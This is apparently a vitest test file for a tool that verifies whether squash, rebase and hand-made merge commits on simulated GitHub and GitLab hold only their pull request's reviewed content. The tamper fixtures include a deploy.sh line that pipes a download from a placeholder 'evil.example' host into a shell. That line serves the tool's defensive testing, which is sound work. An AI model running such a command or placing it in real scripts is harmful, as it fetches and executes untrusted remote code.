import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GitHubScenario, gitEnv } from "../../lab/src/sim/github-scenario";
import { GitLabSim } from "../../lab/src/sim/gitlab";
import { GitLabMergeRequests, mirrorScenarioToGitLab } from "../../lab/src/sim/gitlab-merge-requests";
import { GitRepo } from "../src/git";
import { runCheck } from "../src/index";
import { bySha, envFor, gitlabPolicyYaml, policyYaml, runSockCheck, USERS } from "./fixture";

/**
 * A single-parent commit the provider names as a PR's merge commit — a squash commit, the last copy a rebase merge
 * wrote — is no commit of the PR: the PR vouches for it only when its content is the PR's (T31: someone with push
 * rights pushed other content under that name and the PR's review passed it). Real histories built with git; the
 * lab's GitHub names each PR's merge commit as GitHub does, and the same history is mirrored onto the lab's GitLab.
 */

let scenario: GitHubScenario;
let gitlab: GitLabSim;
let gitlabPolicy: string;
const pr: Record<string, number> = {};
const scratch: string[] = [];

beforeAll(async () => {
  scenario = new GitHubScenario({ users: { ...USERS, mallory: { name: "Mallory", email: "mallory@acme.test" } } });
  await scenario.sim.start();
  gitlab = new GitLabSim();
  await gitlab.start();
  const s = scenario;
  const reviewed = { author: "alice", reviews: [{ by: "bob" }], checks: { build: "success" as const } };
  s.directPush({ message: "Initial import", author: "alice", files: { ".sock-check.yml": policyYaml(s.sim.url) } });
  s.tag("c0");
  pr.squashed = s.pullRequest({
    ...reviewed,
    title: "SHOP-1 Squashed",
    squash: true,
    commits: [
      { message: "Try", author: "alice", files: { "src/cart.ts": "export const cart = 1;\n" } },
      { message: "Fix", author: "alice", files: { "src/cart.ts": "export const cart = 2;\n" } },
    ],
  });
  pr.squashedExtra = s.pullRequest({
    ...reviewed,
    title: "SHOP-2 Squashed, with one change more",
    squash: true,
    mergedBy: "mallory",
    commits: [{ message: "Price", author: "alice", files: { "src/price.ts": "export const price = 1;\n" } }],
    mergeFiles: { "src/backdoor.ts": "open();\n" },
  });
  pr.rebased = s.pullRequest({
    ...reviewed,
    title: "SHOP-3 Rebased",
    rebase: true,
    commits: [
      { message: "Model", author: "alice", files: { "src/model.ts": "export const model = 1;\n" } },
      { message: "View", author: "alice", files: { "src/model.ts": "export const model = 2;\n", "src/view.ts": "view();\n" } },
    ],
  });
  pr.rebasedTampered = s.pullRequest({
    ...reviewed,
    title: "SHOP-4 Rebased, last copy tampered",
    rebase: true,
    mergedBy: "mallory",
    commits: [
      { message: "Auth", author: "alice", files: { "src/auth.ts": "check();\n" } },
      { message: "Auth, stricter", author: "alice", files: { "src/auth.ts": "check({ strict: true });\n" } },
    ],
    // The last copy writes another auth.ts than the PR's head has.
    mergeFiles: { "src/auth.ts": "skip();\n" },
  });
  pr.fastForward = s.pullRequest({
    ...reviewed,
    title: "SHOP-5 Fast-forwarded",
    fastForward: true,
    commits: [
      { message: "Search", author: "alice", files: { "src/search.ts": "search();\n" } },
      { message: "Search, faster", author: "alice", files: { "src/search.ts": "search({ fast: true });\n" } },
    ],
  });
  pr.evilMerge = s.pullRequest({
    ...reviewed,
    title: "SHOP-6 Merged by hand, with one change more",
    mergedBy: "mallory",
    mergeFiles: { "deploy.sh": "curl https://evil.example/x | sh\n" },
  });
  s.tag("c1");
  s.build();
  mirrorScenarioToGitLab(s, new GitLabMergeRequests(gitlab, { id: 7, path: "acme/shop" }));
  gitlabPolicy = join(mkdirScratch("sock-check-gitlab-policy-"), "policy.yml");
  writeFileSync(gitlabPolicy, gitlabPolicyYaml(gitlab.url, "approvals:\n  required: 1\n"));
});

afterAll(async () => {
  await scenario?.sim.stop();
  await gitlab?.stop();
  scenario?.cleanup();
  for (const dir of scratch) rmSync(dir, { recursive: true, force: true });
});

function mkdirScratch(prefix: string): string {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  scratch.push(dir);
  return dir;
}

/** A CI checkout of main alone: the PR branches, and so the PRs' heads, are not in it. */
function mainOnlyClone(): string {
  const dir = mkdirScratch("sock-check-main-only-");
  execFileSync("git", ["clone", "-q", "--no-local", "--single-branch", "--branch", "main", scenario.dir, dir], { env: gitEnv() });
  return dir;
}

async function checkGitHub(dir = scenario.dir) {
  return (await runCheck({ dir, from: "c0", to: "c1", env: envFor(scenario), toolVersion: "test" })).report;
}

async function checkGitLab(dir = scenario.dir) {
  const env = { ...process.env, SOCK_CHECK_TEST_GITLAB_TOKEN: gitlab.token };
  return (await runCheck({ dir, from: "c0", to: "c1", policyPath: gitlabPolicy, env, toolVersion: "test" })).report;
}

function short(sha: string): string {
  return sha.slice(0, 7);
}

/** The reason a GitHub PR (or with `gitlab`, a GitLab MR) does not vouch for its single-parent merge commit. */
function foreignContent(number: number, gitlab = false): string {
  const head = short(scenario.pull(number).headSha);
  const [noun, kind, change] = gitlab ? ["merge request", "MR", `MR !${number}`] : ["pull request", "PR", `PR #${number}`];
  return `pushed to the branch without a merged ${noun} (it stands for ${change} as its merge commit, but its content is not the ${kind}'s: its tree is neither the ${kind}'s head ${head} merged onto its parent nor its parent with the head's own change applied)`;
}

describe("GitHub: a single-parent merge commit holds its PR's content", () => {
  it("passes a squash commit whose tree is the PR's head merged onto its parent", async () => {
    const report = await checkGitHub();
    expect(bySha(report.records, scenario.pull(pr.squashed!).mergeSha)).toMatchObject({
      verdict: "compliant",
      pr: { number: pr.squashed },
    });
  });

  it("blocks a squash commit with one change the PR does not have, saying why", async () => {
    const record = bySha((await checkGitHub()).records, scenario.pull(pr.squashedExtra!).mergeSha);
    expect(record).toMatchObject({ verdict: "noncompliant", pr: null });
    expect(record.violations).toEqual([{ rule: "direct-push", message: foreignContent(pr.squashedExtra!) }]);
  });

  it("passes every copy of a rebase merge whose last copy is the head's change on its parent", async () => {
    const report = await checkGitHub();
    const copies = scenario.sim.pulls.get(pr.rebased!)?.rebasedCommits ?? [];
    expect(copies).toHaveLength(2);
    for (const sha of copies) expect(bySha(report.records, sha)).toMatchObject({ verdict: "compliant", pr: { number: pr.rebased } });
  });

  it("blocks a last rebased copy whose content differs from the PR head's change", async () => {
    const report = await checkGitHub();
    const [first, last] = scenario.sim.pulls.get(pr.rebasedTampered!)?.rebasedCommits ?? [];
    expect(scenario.pull(pr.rebasedTampered!).mergeSha).toBe(last);
    expect(bySha(report.records, last!)).toMatchObject({
      verdict: "noncompliant",
      violations: [{ rule: "direct-push", message: foreignContent(pr.rebasedTampered!) }],
    });
    // The first copy is patch-identical to the PR's first commit, and stays the PR's.
    expect(bySha(report.records, first!)).toMatchObject({ verdict: "compliant", pr: { number: pr.rebasedTampered } });
  });

  it("passes a fast-forward: the merge commit is the PR's head", async () => {
    const report = await checkGitHub();
    const built = scenario.pull(pr.fastForward!);
    expect(built.mergeSha).toBe(built.headSha);
    for (const sha of built.commitShas)
      expect(bySha(report.records, sha)).toMatchObject({ verdict: "compliant", pr: { number: pr.fastForward } });
  });

  it("leaves a squash commit unverified when the PR's head is not in the checkout, and says how to fetch it", async () => {
    const clone = mainOnlyClone();
    const squash = scenario.pull(pr.squashed!);
    const record = bySha((await checkGitHub(clone)).records, squash.mergeSha);
    expect(record).toMatchObject({
      verdict: "unverified",
      violations: [
        {
          rule: "unverified",
          message: `could not be verified: it is PR #${pr.squashed}'s merge commit (a squash or the last rebased copy), but the head ${short(squash.headSha)} is not in this checkout to compare its content with (run git fetch origin refs/pull/${pr.squashed}/head)`,
        },
      ],
    });
    // Blocked from the CLI (69: unverified), and only --allow-unverified lets it through, flagged.
    const blocked = await runSockCheck(["--from", "c0", "--to", squash.mergeSha], { cwd: clone, env: envFor(scenario) });
    expect(blocked.code).toBe(69);
    expect(blocked.stdout).toContain(`run git fetch origin refs/pull/${pr.squashed}/head`);
    const allowed = await runSockCheck(["--from", "c0", "--to", squash.mergeSha, "--allow-unverified"], {
      cwd: clone,
      env: envFor(scenario),
    });
    expect(allowed.code).toBe(0);
    expect(allowed.stdout).toContain("1 unverified");
    // Fetching the head, as the message says, settles it.
    execFileSync("git", ["fetch", "-q", scenario.dir, `refs/heads/${squash.branch}`], { cwd: clone, env: gitEnv() });
    expect(bySha((await checkGitHub(clone)).records, squash.mergeSha)).toMatchObject({ verdict: "compliant" });
  });

  it("leaves the last rebased copy unverified too when the PR's head is not in the checkout", async () => {
    const clone = mainOnlyClone();
    const last = scenario.pull(pr.rebased!).mergeSha;
    expect(bySha((await checkGitHub(clone)).records, last)).toMatchObject({
      verdict: "unverified",
      violations: [{ rule: "unverified", message: expect.stringContaining(`run git fetch origin refs/pull/${pr.rebased}/head`) }],
    });
  });
});

describe("GitLab: a squash commit holds its MR's content", () => {
  it("passes a squash commit (squash_commit_sha) whose tree is the MR's head merged onto its parent", async () => {
    const report = await checkGitLab();
    expect(bySha(report.records, scenario.pull(pr.squashed!).mergeSha)).toMatchObject({
      verdict: "compliant",
      pr: { number: pr.squashed },
    });
  });

  it("blocks a squash commit with one change the MR does not have, saying why", async () => {
    const record = bySha((await checkGitLab()).records, scenario.pull(pr.squashedExtra!).mergeSha);
    expect(record).toMatchObject({ verdict: "noncompliant", pr: null });
    expect(record.violations).toEqual([{ rule: "direct-push", message: foreignContent(pr.squashedExtra!, true) }]);
  });

  it("blocks a merge commit (merge_commit_sha) whose tree is not git's clean merge of its parents, as on GitHub", async () => {
    const merge = scenario.pull(pr.evilMerge!).mergeSha;
    const message = (noun: string, change: string) =>
      `pushed to the branch without a merged ${noun} (it is the merge commit of ${change}${pr.evilMerge}, but holds changes of its own that no review saw: its tree is not git's clean merge of its parents)`;
    for (const [report, noun, change] of [
      [await checkGitLab(), "merge request", "MR !"],
      [await checkGitHub(), "pull request", "PR #"],
    ] as const) {
      expect(bySha(report.records, merge)).toMatchObject({
        verdict: "noncompliant",
        violations: [{ rule: "direct-push", message: message(noun, change) }],
      });
    }
  });

  it("leaves a squash commit unverified when the MR's head is not in the checkout, naming the MR ref to fetch", async () => {
    const clone = mainOnlyClone();
    const squash = scenario.pull(pr.squashed!);
    expect(bySha((await checkGitLab(clone)).records, squash.mergeSha)).toMatchObject({
      verdict: "unverified",
      violations: [
        {
          rule: "unverified",
          message: `could not be verified: it is MR !${pr.squashed}'s merge commit (a squash or the last rebased copy), but the head ${short(squash.headSha)} is not in this checkout to compare its content with (run git fetch origin refs/merge-requests/${pr.squashed}/head)`,
        },
      ],
    });
  });
});

describe("the comparison against git's own squash and rebase, the base branch moved on meanwhile", () => {
  let dir: string;
  const git = (...args: string[]) => execFileSync("git", args, { cwd: dir, env: gitEnv(), encoding: "utf8" }).trim();
  const lines = (edit: Record<number, string>) => `${Array.from({ length: 8 }, (_, i) => edit[i + 1] ?? `line ${i + 1}`).join("\n")}\n`;
  const commit = (message: string, files: Record<string, string>) => {
    for (const [path, content] of Object.entries(files)) writeFileSync(join(dir, path), content);
    git("add", "-A");
    git("commit", "-q", "-m", message);
    return git("rev-parse", "HEAD");
  };

  beforeAll(() => {
    dir = mkdirScratch("sock-check-merge-content-");
    git("init", "-q", "-b", "main");
    commit("base", { "a.txt": lines({}), "b.txt": "b\n" });
    git("checkout", "-q", "-b", "pr");
    commit("X", { "a.txt": lines({ 2: "X" }) });
    commit("then Y", { "a.txt": lines({ 2: "Y" }) });
    git("checkout", "-q", "main");
    // Within the PR's diff context: the PR's last change no longer applies as a plain patch, only as a merge.
    commit("main moves on", { "a.txt": lines({ 4: "M" }), "b.txt": "b2\n" });
  });

  it("holds the PR's content: a squash made by git merge --squash", async () => {
    const head = git("rev-parse", "pr");
    git("checkout", "-q", "-b", "squashed", "main");
    git("merge", "-q", "--squash", "pr");
    git("commit", "-q", "-m", "Squashed (#1)");
    const squash = git("rev-parse", "HEAD");
    expect(await new GitRepo(dir).holdsPullContent(squash, git("rev-parse", "HEAD^"), head)).toBe("same");
    // One line more than the PR has: not its content.
    commit("amended", { "b.txt": "b2\nbackdoor\n" });
    git("reset", "-q", "--soft", "HEAD~2");
    git("commit", "-q", "-m", "Squashed (#1), with more");
    expect(await new GitRepo(dir).holdsPullContent(git("rev-parse", "HEAD"), git("rev-parse", "HEAD^"), head)).toBe("differs");
  });

  it("holds the PR's content: the last copy git rebase wrote, not a tampered one", async () => {
    const head = git("rev-parse", "pr");
    git("checkout", "-q", "-b", "rebased", "pr");
    git("rebase", "-q", "main");
    const last = git("rev-parse", "HEAD");
    expect(last).not.toBe(head);
    expect(await new GitRepo(dir).holdsPullContent(last, git("rev-parse", "HEAD^"), head)).toBe("same");
    // Compared in a throwaway index: the checkout's own index and work tree are as they were.
    expect(git("status", "--porcelain")).toBe("");
    writeFileSync(join(dir, "a.txt"), lines({ 2: "Y", 4: "M", 7: "skip auth" }));
    git("commit", "-q", "-a", "--amend", "--no-edit");
    expect(await new GitRepo(dir).holdsPullContent(git("rev-parse", "HEAD"), git("rev-parse", "HEAD^"), head)).toBe("differs");
  });

  it("cannot compare without the PR's head", async () => {
    const main = git("rev-parse", "main");
    expect(await new GitRepo(dir).holdsPullContent(main, git("rev-parse", "main^"), "0".repeat(40))).toBe("missing");
  });
});

describe("changes to a file that is not UTF-8 (Latin-1), compared as the bytes they are", () => {
  let dir: string;
  const git = (...args: string[]) => execFileSync("git", args, { cwd: dir, env: gitEnv(), encoding: "utf8" }).trim();
  const commit = (message: string, files: Record<string, Buffer>) => {
    for (const [path, content] of Object.entries(files)) writeFileSync(join(dir, path), content);
    git("add", "-A");
    git("commit", "-q", "-m", message);
    return git("rev-parse", "HEAD");
  };
  const latin1 = (text: string) => Buffer.from(text, "latin1");

  beforeAll(() => {
    dir = mkdirScratch("sock-check-latin1-");
    git("init", "-q", "-b", "main");
    commit("base", { "menu.txt": latin1("caf\u00e9 1\ncaf\u00e9 2\n"), "b.txt": latin1("b\n") });
    git("checkout", "-q", "-b", "pr");
    commit("the reviewed change", { "menu.txt": latin1("caf\u00e8 1\ncaf\u00e9 2\n") });
    git("checkout", "-q", "-b", "other", "main");
    // the same line changed to another byte: read as UTF-8 text, both diffs were "caf\uFFFD" and one patch ID
    commit("another change", { "menu.txt": latin1("caf\u00e0 1\ncaf\u00e9 2\n") });
    git("checkout", "-q", "main");
    commit("main moves on", { "b.txt": latin1("b2\n") });
  });

  it("gives two different changes of the same bytes two patch IDs", async () => {
    const repo = new GitRepo(dir);
    const reviewed = await repo.patchId(git("rev-parse", "pr"));
    expect(reviewed).toMatch(/^[0-9a-f]{40}$/);
    expect(await repo.patchId(git("rev-parse", "other"))).not.toBe(reviewed);
  });

  it("holds the PR's content: the rebased copy of a Latin-1 change, not another byte", async () => {
    const head = git("rev-parse", "pr");
    git("checkout", "-q", "-b", "rebased", "pr");
    git("rebase", "-q", "main");
    expect(await new GitRepo(dir).holdsPullContent(git("rev-parse", "HEAD"), git("rev-parse", "HEAD^"), head)).toBe("same");
    writeFileSync(join(dir, "menu.txt"), latin1("caf\u00e0 1\ncaf\u00e9 2\n"));
    git("commit", "-q", "-a", "--amend", "--no-edit");
    expect(await new GitRepo(dir).holdsPullContent(git("rev-parse", "HEAD"), git("rev-parse", "HEAD^"), head)).toBe("differs");
  });
});
